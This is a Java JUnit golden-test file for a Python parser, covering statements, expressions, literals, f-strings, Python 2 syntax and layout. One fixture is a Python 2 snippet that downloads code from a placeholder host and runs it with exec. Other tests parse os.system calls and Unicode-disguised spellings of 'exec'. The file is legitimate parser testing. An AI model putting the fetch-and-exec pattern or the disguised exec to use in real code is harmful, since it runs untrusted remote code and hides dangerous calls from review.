package dev.kingsnake.internal.python;

import dev.kingsnake.Diagnostic;
import dev.kingsnake.DiagnosticCode;
import dev.kingsnake.Limits;
import dev.kingsnake.spi.python.Const;
import dev.kingsnake.spi.python.Expr;
import dev.kingsnake.spi.python.Module;
import dev.kingsnake.spi.python.Stmt;
import org.junit.jupiter.api.Test;

import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.stream.Collectors;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;
import static org.junit.jupiter.api.Assertions.assertTrue;

/** Golden tests: source snippets and the model they must produce (rendered by {@link ModelPrinter}). */
class PythonParserTest {

    private final PythonParser parser = new PythonParser(Limits.defaults());

    private ParseOutcome outcome(String src) {
        return parser.parse("t.py", src.getBytes(StandardCharsets.UTF_8));
    }

    private Module parse(String src) {
        ParseOutcome o = outcome(src);
        List<Diagnostic> errors = o.diagnostics();
        assertEquals(List.of(), errors, () -> "diagnostics for: " + src);
        return o.module();
    }

    private void golden(String src, String expected) {
        assertEquals(expected, ModelPrinter.stmts(parse(src).body()), () -> "source: " + src);
    }

    // ---- statements ---------------------------------------------------------------------------------

    @Test
    void imports() {
        golden("import os.path as p, sys\n", "import os.path as p, sys");
        golden("from os import system as s, popen\n", "from os import system as s, popen");
        golden("from .. import x\n", "from .. import x");
        golden("from ...pkg.mod import (a,\n  b as c,)\n", "from ...pkg.mod import a, b as c");
        golden("from __future__ import print_function\n", "from __future__ import print_function");
        golden("from m import *\n", "from m import *");
    }

    @Test
    void assignments() {
        golden("a = b = 1\n", "a = b = 1");
        golden("x += 2\n", "x += 2");
        golden("x //= 2\n", "x //= 2");
        golden("x: int = 5\n", "x = 5");
        golden("x: int\n", "x:");
        golden("a, *b = c\n", "(a, *b) = c");
        golden("[a, b][i] = v\n", "[a, b][i] = v");
        golden("x = 1,\n", "x = (1,)");
        golden("x = yield y\n", "x = (yield y)");
        golden("type Alias = list[int]\n", "Alias = list[int]");
    }

    @Test
    void compoundStatements() {
        golden("if a:\n    b\nelif c:\n    d\nelse:\n    e\n", "if a {b} else {if c {d} else {e}}");
        golden("while x: pass\nelse: y\n", "while x {pass} else {y}");
        golden("for i, j in z:\n  continue\nelse:\n  break\n", "for (i, j) in z {continue} else {break}");
        golden("try:\n a\nexcept (E, F) as e:\n b\nexcept:\n c\nelse:\n d\nfinally:\n e\n",
                "try {a} except (E, F) as e {b} except {c} else {d} finally {e}");
        golden("try:\n a\nexcept* E:\n b\n", "try {a} except E {b}");
        golden("with open(f) as g, h:\n  pass\n", "with open(f) as g, h {pass}");
        golden("with (open(a) as b, open(c) as d,):\n  pass\n", "with open(a) as b, open(c) as d {pass}");
        golden("async def f():\n    async with a as b:\n        async for x in y:\n            await z\n",
                "async def f() {async with a as b {async for x in y {(await z)}}}");
        golden("@dec\n@dec2(1)\nclass C(B, metaclass=M, **kw):\n    x = 1\n",
                "@dec @dec2(1) class C(B, metaclass=M, **kw) {x = 1}");
        golden("def f(a, b=1, /, c=2, *args, d, e=3, **kw) -> int:\n    return a\n",
                "def f(a, b=1, c=2, *args, kw:d, kw:e=3, **kw) {return a}");
        golden("def f(*, a): pass\n", "def f(kw:a) {pass}");
        golden("def f[T: int, *Ts, **P](x: T) -> T: ...\n", "def f(x) {...}");
        golden("class C[T]: pass\n", "class C() {pass}");
        golden("del a, b[0]\n", "del a, b[0]");
        golden("assert x, 'msg'\n", "assert x, 'msg'");
        golden("def f():\n    global a, b\n    nonlocal c\n", "def f() {global a, b; nonlocal c}");
        golden("raise E from e\n", "raise E from e");
        golden("raise\n", "raise");
        golden("a; b; c\n", "a; b; c");
        golden("if x: a; b\n", "if x {a; b}");
    }

    @Test
    void matchStatement() {
        golden("match command.split():\n"
                        + "    case [action, *rest] if action:\n"
                        + "        pass\n"
                        + "    case Point(x=0, y=0) | {'k': v, **kw} as p:\n"
                        + "        pass\n"
                        + "    case -1 | 1+2j | 'a' 'b' | None | a.b.c:\n"
                        + "        pass\n"
                        + "    case _:\n"
                        + "        pass\n",
                "match command.split() {case [action, *rest] if action {pass} "
                        + "case Point(x=0, y=0) | {'k': v, **kw} as p {pass} "
                        + "case -1 | 1+2j | 'a' 'b' | None | a.b.c {pass} case _ {pass}}");
        golden("match w := x,:\n    case 1: pass\n", "match ((w := x),) {case 1 {pass}}");
        // match and case stay usable as names
        golden("match = 1\nmatch.x(case)\nmatch(a)\n", "match = 1; match.x(case); match(a)");
    }

    // ---- expressions --------------------------------------------------------------------------------

    @Test
    void operatorPrecedence() {
        golden("a + b * c - d\n", "((a + (b * c)) - d)");
        golden("-x ** 2\n", "(-(x ** 2))");
        golden("2 ** -1 * 3\n", "((2 ** (-1)) * 3)");
        golden("a ** b ** c\n", "(a ** (b ** c))");
        golden("not a == b and c or d\n", "(((not (a == b)) and c) or d)");
        golden("a or b or c\n", "(a or b or c)");
        golden("a < b <= c != d\n", "(a < b <= c != d)");
        golden("a not in b is not c\n", "(a not in b is not c)");
        golden("a | b ^ c & d << e\n", "(a | (b ^ (c & (d << e))))");
        golden("x if c else y if d else z\n", "(x if c else (y if d else z))");
        golden("await a.b()\n", "(await a.b())");
        golden("a @ b // c % d / e\n", "((((a @ b) // c) % d) / e)");
        golden("~a\n", "(~a)");
    }

    @Test
    void primaries() {
        golden("os.system(cmd)\n", "os.system(cmd)");
        golden("f(*a, sep='', **k)\n", "f(*a, sep='', **k)");
        golden("print(*a, sep='')\n", "print(*a, sep='')");
        golden("f(x for x in y)\n", "f((x for x in y))");
        golden("f(a)(b)[c].d\n", "f(a)(b)[c].d");
        golden("x[1:2, ::3, a:]\n", "x[(1:2, ::3, a:)]");
        golden("x[::-1]\n", "x[::(-1)]");
        golden("x[*a]\n", "x[*a]");
        golden("f(y := 1)\n", "f((y := 1))");
        golden("if (n := len(a)) > 10: pass\n", "if ((n := len(a)) > 10) {pass}");
    }

    @Test
    void displaysAndComprehensions() {
        golden("[1, 2, *x]\n", "[1, 2, *x]");
        golden("()\n", "()");
        golden("(1,)\n", "(1,)");
        golden("(a)\n", "a");
        golden("{1, 2}\n", "{1, 2}");
        golden("{}\n", "{}");
        golden("{'a': 1, **b}\n", "{'a': 1, **b}");
        golden("[x for x in y if x if z for w in x]\n", "[x for x in y if x if z for w in x]");
        golden("{k: v for k, v in d.items()}\n", "{k: v for (k, v) in d.items()}");
        golden("{x async for x in y}\n", "{x async for x in y}");
        golden("(x for x in y)\n", "(x for x in y)");
        golden("lambda: 0\n", "(lambda : 0)");
        golden("lambda a, b=1, *c, d, **e: a\n", "(lambda a, b=1, *c, kw:d, **e: a)");
        golden("[x for x in y if lambda: x]\n", "[x for x in y if (lambda : x)]");
    }

    // ---- literals -----------------------------------------------------------------------------------

    @Test
    void numbers() {
        golden("x = 0x_FF, 0o17, 0b101, 1_000, 10L, 0777, 00, 1.5, 1e3, .5, 1.\n",
                "x = (255, 15, 5, 1000, 10, 511, 0, 1.5, 1000.0, 0.5, 1.0)");
        golden("x = 3j\n", "x = ?3j?");
        golden("x = 1if y else 2\n", "x = (1 if y else 2)");
    }

    @Test
    void strings() {
        golden("s = 'a' \"b\" '''c''' \"\"\"d\"\"\"\n", "s = 'abcd'");
        golden("s = r'\\n' u'\\u00e9' R'\\x' U'x'\n", "s = '\\\\n\u00e9\\\\xx'");
        golden("s = b'\\x41\\101' rb'\\x' Br'y' bR'z'\n", "s = b'AA\\xyz'");
        golden("s = ur'abc'\n", "s = 'abc'");
        golden("s = '\\N{LATIN SMALL LETTER A}\\t\\'\\\n'\n", "s = 'a\t\\''");
        golden("s = '''multi\nline'''\n", "s = 'multi\\nline'");
        golden("s = 'a' b'c'\n", "s = 'ac'");
    }

    @Test
    void fStrings() {
        golden("f'a{x}b'\n", "f['a', x, 'b']");
        golden("f'{x!r:>{w}}'\n", "f[format(repr(x), f['>', w])]");
        golden("f'{x:08.3f}'\n", "f[format(x, '08.3f')]");
        golden("f'{x=}'\n", "f[f['x=', repr(x)]]");
        golden("f'{{literal}} {y}'\n", "f['{literal} ', y]");
        golden("f\"{d[\"key\"]}\"\n", "f[d['key']]");
        golden("f'{f\"{x}\"}'\n", "f[f[x]]");
        golden("f'''{\nx\n+ 1}'''\n", "f[(x + 1)]");
        golden("'a' f'{b}' 'c'\n", "f['a', b, 'c']");
        golden("rf'\\d{x}'\n", "f['\\\\d', x]");
        golden("f'\\N{BULLET} {x}'\n", "f['\u2022 ', x]");
        golden("f'{ {1: 2}[1] }'\n", "f[{1: 2}[1]]");
        golden("f'{a!s}{b!a}'\n", "f[str(a), ascii(b)]");
        golden("f'{x:{\"\"}}'\n", "f[format(x, '')]");
    }

    @Test
    void fStringPositionsPointIntoTheSource() {
        Stmt.Assign a = (Stmt.Assign) parse("y = 1\nz = f'''ab\n  {name}'''\n").body().get(1);
        Expr.FString f = assertInstanceOf(Expr.FString.class, a.value().orElseThrow());
        Expr.Name n = assertInstanceOf(Expr.Name.class, f.parts().get(1));
        assertEquals(3, n.line());
        assertEquals(4, n.column());
    }

    @Test
    void unicodeIdentifiersAreNfkcNormalised() {
        golden("ｅｘｅｃ(x)\n", "exec(x)");
        golden("\uD835\uDC1E\uD835\uDC31\uD835\uDC1E\uD835\uDC1C('x')\n", "exec('x')");
        golden("π = 3\n", "π = 3");
    }

    // ---- Python 2 -----------------------------------------------------------------------------------

    @Test
    void python2Statements() {
        golden("print \"x\"\n", "print('x')");
        golden("print 'a %s' % b, c,\n", "print(('a %s' % b), c)");
        golden("print >>sys.stderr, 'err'\n", "print('err', file=sys.stderr)");
        golden("print\n", "print");
        golden("print(x)\n", "print(x)");
        golden("exec \"code\" in g, l\n", "exec('code', g, l)");
        golden("exec code\n", "exec(code)");
        golden("x = `y`\n", "x = repr(y)");
        golden("try:\n  a\nexcept E, e:\n  b\n", "try {a} except E as e {b}");
        golden("raise E, \"msg\"\n", "raise E('msg')");
        golden("if a <> b: pass\n", "if (a != b) {pass}");
        golden("def f(a, (b, c)):\n  pass\n", "def f(a, (b,c)) {pass}");
        golden("f = lambda (a, b): a\n", "f = (lambda (a,b): a)");
    }

    @Test
    void python2FileStillYieldsUsableTree() {
        Module m = parse("import urllib2\n"
                + "def run():\n"
                + "    print 'fetching'\n"
                + "    data = urllib2.urlopen('http://example.invalid/x').read()\n"
                + "    exec data in globals()\n"
                + "run()\n");
        assertEquals("import urllib2; def run() {print('fetching'); data = urllib2.urlopen('http://example.invalid/x')"
                + ".read(); exec(data, globals())}; run()", ModelPrinter.stmts(m.body()));
    }

    // ---- layout -------------------------------------------------------------------------------------

    @Test
    void lineEndingsContinuationsTabsAndFormFeeds() {
        golden("if a:\r\n    b\r\nc\r\n", "if a {b}; c");
        golden("if a:\r    b\rc", "if a {b}; c");
        golden("x = [1,\n\n  # comment\n 2]\n", "x = [1, 2]");
        golden("x = 1 + \\\n    2\n", "x = (1 + 2)");
        golden("if a:\n\tb\n        c\n", "if a {b; c}");
        golden("\f\nif a:\n  \f  b\n", "if a {b}");
        golden("if a:\n    b\n\n    # comment at other indent\n  \n    c\nd\n", "if a {b; c}; d");
        golden("x = 1", "x = 1");
        golden("", "");
        golden("\n\n# only a comment", "");
        golden("class A:\n    def f(self):\n        if x:\n            return 1\n", "class A() {def f(self) {if x {return 1}}}");
    }

    @Test
    void positionsAreOneBased() {
        Stmt s = parse("\n  \nif x:\n    y.z(1)\n").body().get(0);
        assertEquals(3, s.line());
        assertEquals(1, s.column());
        Stmt.ExprStmt inner = (Stmt.ExprStmt) ((Stmt.If) s).body().get(0);
        Expr.Call call = (Expr.Call) inner.value();
        assertEquals(4, call.line());
        assertEquals(5, call.column());
        assertEquals(9, call.args().get(0).column());
    }

    @Test
    void adjacentBytesLiteralsJoinToBytes() {
        Stmt.ExprStmt s = (Stmt.ExprStmt) parse("b'ab' b'\\xff'\n").body().get(0);
        Expr.Literal l = assertInstanceOf(Expr.Literal.class, s.value());
        assertEquals(new Const.Bytes(new byte[] {'a', 'b', (byte) 0xff}), l.value());
    }

    @Test
    void textIsTheDecodedNormalisedSource() {
        ParseOutcome o = outcome("a = 1\r\nb = 2\r");
        assertEquals("a = 1\nb = 2\n", o.text());
    }

    static String errors(ParseOutcome o) {
        return o.diagnostics().stream().map(d -> d.code() + ":" + d.message()).collect(Collectors.joining("|"));
    }

    @Test
    void diagnosticsNameTheFile() {
        ParseOutcome o = parser.parse("pkg/mod.py", "x = (\n".getBytes(StandardCharsets.UTF_8));
        assertTrue(o.diagnostics().stream().allMatch(d -> d.file().equals("pkg/mod.py")
                && d.code() == DiagnosticCode.PARSE_ERROR), errors(o));
    }
}
